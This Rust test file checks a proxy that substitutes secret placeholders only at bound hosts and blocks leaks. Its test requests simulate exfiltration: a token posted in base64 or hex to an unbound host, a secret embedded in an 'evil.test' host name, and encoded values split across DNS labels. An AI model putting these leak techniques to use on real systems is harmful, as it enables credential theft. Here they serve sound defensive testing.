//! Placeholders swapped only where bound, the leak scan in every form,
//! secrets stored while the broker runs, and values echoed back.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use futures::future::BoxFuture;
use hardshell_broker::proxy::Event;
use hardshell_broker::secrets::{LeakScanner, LiveScanner, NamedSecret};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

use crate::support::*;

#[tokio::test]
async fn a_placeholder_becomes_the_secret_only_at_its_bound_host_and_header() {
    let h = harness(true).await;
    let response = h
        .get(
            "api.github.test",
            h.port,
            "Authorization: Bearer hs-secret:GITHUB_TOKEN\r\n",
        )
        .await;
    assert!(response.starts_with("HTTP/1.1 200"), "{response}");
    let seen = h.seen.lock().unwrap().last().unwrap().clone();
    assert!(
        seen.contains(&format!("authorization: Bearer {TOKEN}")),
        "{seen}"
    );
    assert!(!seen.contains("hs-secret:"), "{seen}");
    // The destination echoed the value back, in its body and a header: the
    // shell gets the placeholder.
    assert!(!response.contains(TOKEN), "{response}");
    assert!(
        response
            .to_ascii_lowercase()
            .contains("x-echo: bearer hs-secret:github_token"),
        "{response}"
    );
    assert!(
        response.contains("authorization: Bearer hs-secret:GITHUB_TOKEN"),
        "{response}"
    );

    // Aimed elsewhere: refused, audited by name, the value nowhere.
    let before = h.seen.lock().unwrap().len();
    let response = h
        .get(
            "other.test",
            h.port,
            "Authorization: Bearer hs-secret:GITHUB_TOKEN\r\n",
        )
        .await;
    assert!(response.starts_with("HTTP/1.1 403"), "{response}");
    assert!(
        response.contains("secret GITHUB_TOKEN is not bound to other.test"),
        "{response}"
    );
    assert!(!response.contains(TOKEN));
    assert_eq!(h.seen.lock().unwrap().len(), before, "the request left");
    assert!(h.events().contains(&Event::SecretMisdirected {
        name: "GITHUB_TOKEN".into(),
        host: "other.test".into()
    }));
}

#[tokio::test]
async fn a_secret_value_leaving_in_any_form_is_blocked() {
    use base64::Engine as _;
    let h = harness(true).await;
    let encoded = base64::engine::general_purpose::STANDARD.encode(format!("stolen={TOKEN}"));
    for body in [TOKEN.to_owned(), encoded, hex::encode(TOKEN)] {
        let request = format!(
            "POST http://other.test:{}/upload HTTP/1.1\r\nHost: other.test\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            h.port,
            body.len()
        );
        let response = h.send(&request).await;
        assert!(response.starts_with("HTTP/1.1 403"), "{response}");
        assert!(
            response.contains("carries the value of secret GITHUB_TOKEN"),
            "{response}"
        );
    }
    // In a header's name (which arrives lower-cased) or as the method.
    let in_name = format!("x-{}: 1", TOKEN.to_ascii_uppercase());
    for (method, header) in [("POST", in_name.as_str()), (TOKEN, "x-ok: 1")] {
        let request = format!(
            "{method} http://other.test:{}/upload HTTP/1.1\r\nHost: other.test\r\n{header}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
            h.port
        );
        let response = h.send(&request).await;
        assert!(
            response.starts_with("HTTP/1.1 403"),
            "{method} {header}: {response}"
        );
    }
    assert!(h.seen.lock().unwrap().is_empty());
    assert!(h.events().contains(&Event::LeakBlocked {
        name: "GITHUB_TOKEN".into(),
        host: "other.test".into()
    }));
    // A blocked request is recorded as blocked, never as allowed.
    assert!(
        !h.events()
            .iter()
            .any(|e| matches!(e, Event::Allowed { host, .. } if host == "other.test")),
        "{:?}",
        h.events()
    );
    // In a name under a wildcard route, it is refused before the name is
    // looked up (the lookup itself would carry it out), tunnel or not: the
    // refusal names the secret, not a name that does not resolve.
    for label in [LABEL_SAFE.to_owned(), hex::encode(LABEL_SAFE)] {
        let name = format!("{label}.github.test");
        for request in [
            format!(
                "GET http://{name}:{0}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
                h.port
            ),
            format!("CONNECT {name}:{0} HTTP/1.1\r\nHost: x\r\n\r\n", h.port),
        ] {
            let response = h.send(&request).await;
            assert!(response.starts_with("HTTP/1.1 403"), "{response}");
            assert!(
                response.contains("carries the value of secret LABEL_SAFE"),
                "{response}"
            );
        }
    }
    // Under no route at all, too: a refusal names the host in its record,
    // which must not carry the value there.
    let response = h
        .send(&format!(
            "GET http://{LABEL_SAFE}.evil.test:{0}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
            h.port
        ))
        .await;
    assert!(response.starts_with("HTTP/1.1 403"), "{response}");
    assert!(response.contains("secret LABEL_SAFE"), "{response}");
    let recorded = format!("{:?}", h.events());
    assert!(
        recorded.contains("[redacted:LABEL_SAFE].evil.test"),
        "{recorded}"
    );
    for form in [LABEL_SAFE.to_owned(), hex::encode(LABEL_SAFE)] {
        assert!(!recorded.contains(&form), "{recorded}");
    }
}

#[tokio::test]
async fn a_compressed_answer_to_a_request_carrying_a_secret_is_refused() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = seen.clone();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            // Compressed whatever was asked (the body is not really gzip;
            // the broker must not pass it on either way).
            tokio::spawn(echo(stream, log.clone(), "Content-Encoding: gzip\r\n"));
        }
    });
    let mut broker = loopback_broker(
        vec![
            route("api.github.test", vec![port]),
            route("other.test", vec![port]),
        ],
        test_tls(),
    );
    bind_token(&mut broker, "GITHUB_TOKEN", "api.github.test", None);
    let (socket, _dir) = serve(broker);
    let request = |host: &str, auth: &str| {
        format!("GET http://{host}:{port}/ HTTP/1.1\r\nHost: x\r\n{auth}Connection: close\r\n\r\n")
    };
    let response = send_to(
        &socket,
        &request(
            "api.github.test",
            "Authorization: token hs-secret:GITHUB_TOKEN\r\n",
        ),
    )
    .await;
    assert!(response.starts_with("HTTP/1.1 502"), "{response}");
    assert!(response.contains("compressed"), "{response}");
    assert!(!response.contains(TOKEN), "{response}");
    // From a host a secret is bound to, every answer is read, swap or not.
    let response = send_to(&socket, &request("api.github.test", "")).await;
    assert!(response.starts_with("HTTP/1.1 502"), "{response}");
    // From a host no secret is bound to, a compressed answer is the
    // shell's business.
    let response = send_to(&socket, &request("other.test", "")).await;
    assert!(response.starts_with("HTTP/1.1 200"), "{response}");
    assert_eq!(seen.lock().unwrap().len(), 3);
}

/// A secret store in memory, written while the broker runs.
#[derive(Default)]
struct Stored(Mutex<(u64, hardshell_broker::secrets::NamedValues)>);

impl hardshell_broker::secrets::SecretSource for Stored {
    fn fingerprint(&self) -> BoxFuture<'_, Result<String, hardshell_broker::secrets::SourceError>> {
        let writes = self.0.lock().unwrap().0;
        Box::pin(async move { Ok(writes.to_string()) })
    }
    fn values(
        &self,
    ) -> BoxFuture<
        '_,
        Result<hardshell_broker::secrets::NamedValues, hardshell_broker::secrets::SourceError>,
    > {
        let values = self.0.lock().unwrap().1.clone();
        Box::pin(async move { Ok(values) })
    }
}

#[tokio::test]
async fn a_secret_stored_after_the_start_is_refused_from_then_on() {
    let (port, seen) = echo_server().await;
    let store = Arc::new(Stored::default());
    let mut broker = loopback_broker(vec![route("*.api.test", vec![port])], test_tls());
    broker.scanner = LiveScanner::watching(store.clone(), Vec::new(), Duration::ZERO);
    let (socket, _dir) = serve(broker);
    let later = "later-stored-0123456789";
    let post = |host: &str| {
        format!(
            "POST http://{host}:{port}/notes HTTP/1.1\r\nHost: x\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{later}",
            later.len()
        )
    };
    let response = send_to(&socket, &post("www.api.test")).await;
    assert!(response.starts_with("HTTP/1.1 200"), "{response}");
    {
        let mut held = store.0.lock().unwrap();
        held.0 += 1;
        held.1
            .push(NamedSecret::new("LATER", later.as_bytes().to_vec()));
    }
    let response = send_to(&socket, &post("www.api.test")).await;
    assert!(response.starts_with("HTTP/1.1 403"), "{response}");
    assert!(
        response.contains("carries the value of secret LATER"),
        "{response}"
    );
    // In a host name too.
    let response = send_to(&socket, &post(&format!("{later}.api.test"))).await;
    assert!(response.starts_with("HTTP/1.1 403"), "{response}");
    assert_eq!(seen.lock().unwrap().len(), 1);
}

/// An "external" notes API: `POST` stores the body, `GET` returns every note
/// stored, raw and in the forms an API may re-encode it in.
async fn notes_server() -> u16 {
    use base64::Engine as _;
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let notes = Arc::new(Mutex::new(Vec::<String>::new()));
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let notes = notes.clone();
            tokio::spawn(async move {
                let log = Arc::new(Mutex::new(Vec::new()));
                let (mut ours, theirs) = tokio::io::duplex(1 << 16);
                // Read the request with the echo helper's parser.
                let read = tokio::spawn(echo(theirs, log.clone(), ""));
                let mut stream = stream;
                let mut buffer = vec![0u8; 65536];
                let n = stream.read(&mut buffer).await.unwrap_or(0);
                ours.write_all(&buffer[..n]).await.unwrap();
                let _ = read.await;
                let request = log.lock().unwrap().pop().unwrap_or_default();
                let body = request.split_once("\r\n\r\n").map_or("", |(_, b)| b);
                let answer = if request.starts_with("POST") {
                    notes.lock().unwrap().push(body.to_owned());
                    "stored".to_owned()
                } else {
                    let mut answer = String::new();
                    for note in notes.lock().unwrap().iter() {
                        let every_char: String = note
                            .chars()
                            .map(|c| format!("\\u{:04X}", u32::from(c)))
                            .collect();
                        let percent: String = note.bytes().map(|b| format!("%{b:02x}")).collect();
                        answer.push_str(&format!(
                            "raw={note}\nb64={}\nhex={}\npct={percent}\njson=\"{}\"\nu={every_char}\n",
                            base64::engine::general_purpose::STANDARD.encode(note),
                            hex::encode_upper(note),
                            note.replace('/', "\\/"),
                        ));
                    }
                    answer
                };
                let reply = format!(
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{answer}",
                    answer.len()
                );
                let _ = stream.write_all(reply.as_bytes()).await;
                let _ = stream.shutdown().await;
            });
        }
    });
    port
}

#[tokio::test]
async fn a_value_stored_through_a_placeholder_comes_back_as_the_placeholder_in_every_form() {
    let port = notes_server().await;
    let mut broker = loopback_broker(vec![route("notes.test", vec![port])], test_tls());
    // No header named: the placeholder may be swapped in a body.
    bind_token(&mut broker, "NOTES_TOKEN", "notes.test", None);
    let (socket, _dir) = serve(broker);
    let note = "key hs-secret:NOTES_TOKEN/x";
    let response = send_to(
        &socket,
        &format!(
            "POST http://notes.test:{port}/notes HTTP/1.1\r\nHost: x\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{note}",
            note.len()
        ),
    )
    .await;
    assert_eq!(body_of(&response), "stored", "{response}");
    // Read back with a request that swaps nothing.
    let response = send_to(
        &socket,
        &format!(
            "GET http://notes.test:{port}/notes HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
        ),
    )
    .await;
    assert!(response.starts_with("HTTP/1.1 200"), "{response}");
    let body = &body_of(&response);
    // Six forms of the note, each with the value turned back.
    assert_eq!(body.matches("hs-secret:NOTES_TOKEN").count(), 6, "{body}");
    let scanner = LeakScanner::new(&[NamedSecret::new("NOTES_TOKEN", TOKEN.as_bytes().to_vec())]);
    assert_eq!(scanner.find(body.as_bytes()), None, "{body}");
    assert!(
        !body.to_ascii_lowercase().contains(&hex::encode(TOKEN)),
        "{body}"
    );
}

#[tokio::test]
async fn a_value_split_across_labels_or_in_base32_is_refused_before_any_lookup() {
    let h = harness(true).await;
    let hex = hex::encode(TOKEN);
    let base32 = data_encoding::BASE32_NOPAD.encode(TOKEN.as_bytes());
    // 63 bytes at most per label: split, as a shell would.
    let split = |text: &str, at: usize| format!("{}.{}", &text[..at], &text[at..]);
    for labels in [
        split(&hex, 40),
        split(&hex.to_ascii_uppercase(), 30),
        split(&base32, 33),
        split(&base32.to_ascii_lowercase(), 20),
        // At an offset inside a longer run.
        data_encoding::BASE32_NOPAD
            .encode(format!("xyz{TOKEN}").as_bytes())
            .to_ascii_lowercase()
            .chars()
            .collect::<Vec<_>>()
            .chunks(40)
            .map(|c| c.iter().collect::<String>())
            .collect::<Vec<_>>()
            .join("."),
    ] {
        let name = format!("{labels}.github.test");
        for request in [
            format!(
                "GET http://{name}:{0}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
                h.port
            ),
            format!("CONNECT {name}:{0} HTTP/1.1\r\nHost: x\r\n\r\n", h.port),
        ] {
            let response = h.send(&request).await;
            assert!(response.starts_with("HTTP/1.1 403"), "{name}: {response}");
            assert!(
                response.contains("carries the value of secret GITHUB_TOKEN"),
                "{name}: {response}"
            );
        }
    }
    assert!(h.seen.lock().unwrap().is_empty());
    let recorded = format!("{:?}", h.events());
    assert!(!recorded.contains("Allowed"), "{recorded}");
    for form in [
        &hex[..16],
        &base32[..16],
        &base32.to_ascii_lowercase()[..16],
    ] {
        assert!(!recorded.contains(form), "{recorded}");
    }
}

#[tokio::test]
async fn a_placeholder_in_the_url_path_is_swapped_where_bound_and_refused_elsewhere() {
    // Bound to the host with no header named: the path is a place it may go
    // (Telegram's bot token is a path segment).
    let (port, seen) = echo_server().await;
    let mut broker = loopback_broker(
        vec![
            route("api.bot.test", vec![port]),
            route("other.test", vec![port]),
        ],
        test_tls(),
    );
    bind_token(&mut broker, "BOT_TOKEN", "api.bot.test", None);
    let (socket, _dir) = serve(broker);
    let ask = |host: &str| {
        format!(
            "GET http://{host}:{port}/boths-secret:BOT_TOKEN/getMe HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
        )
    };
    let response = send_to(&socket, &ask("api.bot.test")).await;
    assert!(response.starts_with("HTTP/1.1 200"), "{response}");
    let received = seen.lock().unwrap().last().cloned().unwrap();
    assert!(
        received.starts_with(&format!("GET /bot{TOKEN}/getMe HTTP/1.1")),
        "{received}"
    );
    assert!(!response.contains(TOKEN), "{response}");
    // (Chunked by the redaction relay: the path in pieces.)
    assert!(response.contains("/boths-secret:BOT_TOKEN"), "{response}");

    // Elsewhere it is refused, and nothing is sent.
    let before = seen.lock().unwrap().len();
    let response = send_to(&socket, &ask("other.test")).await;
    assert!(response.starts_with("HTTP/1.1 403"), "{response}");
    assert!(
        response.contains("secret BOT_TOKEN is not bound to other.test"),
        "{response}"
    );
    assert_eq!(seen.lock().unwrap().len(), before);
}

#[tokio::test]
async fn a_secret_bound_to_a_header_is_refused_in_the_path() {
    let h = harness(true).await;
    let before = h.seen.lock().unwrap().len();
    let response = h
        .send(&format!(
            "GET http://api.github.test:{}/hs-secret:GITHUB_TOKEN HTTP/1.1\r\nHost: api.github.test\r\nConnection: close\r\n\r\n",
            h.port
        ))
        .await;
    assert!(response.starts_with("HTTP/1.1 403"), "{response}");
    assert_eq!(h.seen.lock().unwrap().len(), before);
}
